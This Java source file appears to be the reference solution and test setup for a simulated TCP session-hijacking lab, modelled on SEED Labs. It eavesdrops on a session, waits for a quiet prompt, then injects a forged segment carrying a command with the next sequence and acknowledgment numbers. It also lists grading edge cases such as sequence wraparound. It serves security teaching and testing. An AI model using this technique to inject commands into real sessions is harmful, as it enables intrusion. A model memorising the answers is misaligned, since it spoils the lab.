package org.quintain.solutions.net.tcphijack;

import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;
import org.quintain.core.Lab;
import org.quintain.core.Seat;
import org.quintain.core.contract.HardSeat;
import org.quintain.core.contract.NearMiss;
import org.quintain.core.contract.Reference;
import org.quintain.net.tcphijack.TcpHijackLab;
import org.quintain.net.tcphijack.TcpHijackLab.Answer;
import org.quintain.net.tcphijack.TcpHijackLab.Challenge;
import org.quintain.solutions.net.Recorder;

/**
 * Session hijacking by somebody who sees the session (L. Joncheray, A Simple Active Attack Against TCP, USENIX Security 1995;
 * W. Du, SEED Labs, TCP Attacks Lab, task 3): waits until the prompt has come and nobody types, then sends one line with the
 * console's addresses and the sequence and acknowledgment numbers that come next.
 *
 * <p>Cost, over the practice seats 0 to 199: one frame on each; 36 queries (worst 63); 0.7 seconds of virtual time (worst
 * 1.2), until the first prompt.
 */
public final class TcpHijackAttack implements Reference<Challenge, Answer> {
    /** Shorter than the operator's shortest thought, so that a prompt is noticed before the next key. */
    private static final long STEP_MICROS = 100_000;

    private static final int STEPS = 300;

    @Override
    public Lab<Challenge, Answer> lab() {
        return new TcpHijackLab();
    }

    @Override
    public Answer run(Challenge challenge) {
        Recorder recorder = new Recorder(challenge.card());
        Eavesdropper session = new Eavesdropper(challenge);
        for (int step = 0; step < STEPS && !session.isQuiet(); step++) {
            recorder.listen(STEP_MICROS).forEach(session::hear);
        }
        byte[] line = (challenge.command() + "\r\n").getBytes(StandardCharsets.US_ASCII);
        int consoleSends = session.consoleNext();
        recorder.send(session.forge(line));
        recorder.listen(STEP_MICROS);
        return new Answer(
                recorder.script(),
                Integer.toUnsignedLong(consoleSends + line.length),
                Integer.toUnsignedLong(consoleSends));
    }

    /** Listens for half a minute: the operator's commands are executed, and each is followed by a prompt. */
    @Override
    public void honestUse(Challenge challenge) {
        Recorder recorder = new Recorder(challenge.card());
        Eavesdropper session = new Eavesdropper(challenge);
        int prompts = 0;
        boolean wasQuiet = false;
        for (int step = 0; step < STEPS; step++) {
            recorder.listen(STEP_MICROS).forEach(session::hear);
            prompts += session.isQuiet() && !wasQuiet ? 1 : 0;
            wasQuiet = session.isQuiet();
        }
        if (prompts < 4) {
            throw new IllegalStateException("a session that goes on wanted: prompts=" + prompts);
        }
    }

    @Override
    public List<NearMiss<Answer>> nearMisses(Challenge challenge, Answer right) {
        return TcpHijackMisses.of(challenge, right);
    }

    @Override
    public List<HardSeat> hardSeats() {
        return List.of(
                seat(3, "the console's numbers wrap within the command: the server expects the smaller number"),
                seat(49, "the command ends at 2^32: the server expects 0"),
                seat(30, "the console's next number is 0: a number of 0 is not one that is missing"),
                seat(0, "the numbers are negative where 32 bits have a sign; the segment has an odd number of bytes"),
                seat(1000, "the session begins at once: the prompt comes within a tenth of a second"),
                seat(439, "the session begins late: nothing is to be heard for a second"));
    }

    private static HardSeat seat(int number, String why) {
        return new HardSeat(why, Seat.practice(number), Map.of());
    }
}
